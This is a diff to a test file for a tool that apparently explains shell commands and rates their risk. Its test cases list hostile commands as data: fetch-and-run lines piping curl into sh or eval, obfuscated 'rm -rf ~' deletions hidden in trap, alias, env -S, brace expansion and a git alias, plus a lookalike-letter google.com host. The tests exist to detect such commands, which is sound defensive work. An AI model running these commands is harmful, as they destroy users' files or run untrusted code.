@@ -27,6 +27,15 @@ describe('the summary of a command', () => {
     ['sh <(curl https://x.io/i)', 'Run a download from https://x.io/i: sh <(curl https://x.io/i)'],
     ['eval "$(curl https://x.io/i)"', 'Run a download from https://x.io/i: eval "$(curl https://x.io/i)"'],
     ['cd / && rm -rf *', 'Delete /*: cd / && rm -rf *'],
+    [`trap 'rm -rf ~' EXIT`, `Delete ~: trap 'rm -rf ~' EXIT`],
+    ['alias ls="rm -rf ~"; ls', 'Delete ~: alias ls="rm -rf ~"; ls'],
+    ['env -S "rm -rf ~"', 'Delete ~: env -S "rm -rf ~"'],
+    ['{rm,-rf,~}', 'Run code made by {rm,-rf,~}: {rm,-rf,~}'],
+    ['git -c core.pager=cat log', 'Run git -c core.pager=cat log'],
+    [
+      `git -c alias.x='!rm -rf ~' x`,
+      `Delete ~, change which programs run (git alias.x): git -c alias.x='!rm -rf ~' x`,
+    ],
     ['git push --force origin main', 'Force-push origin main: git push --force origin main'],
     ['git commit -m x && git push', 'Push to its upstream: git commit -m x && git push'],
     ['git reset --hard HEAD~3', 'Throw away changes since HEAD~3: git reset --hard HEAD~3'],
@@ -123,6 +132,14 @@ describe('the view of a command', () => {
     expect(rows('Bash', { command: 'ls \\' })['Watch out']).toContain('continuation');
     expect(rows('Bash', { command: "echo 'open" })['Watch out']).toContain('does not parse');
     expect(rows('Bash', { command: `ls #${'x'.repeat(2_000)}` })['Watch out']).toContain('2004 characters');
+  });
+
+  it('names the host behind letters that look alike', () => {
+    const { view, risk } = bash('curl https://g\u043E\u043Egle.com/x');
+    expect(view.blocks.map(({ value }) => value)).toContain(
+      'the host looks like google.com but is xn--ggle-55da.com',
+    );
+    expect(risk.level).toBe('high');
   });
 
   it('says when a script is too long to be read through', () => {
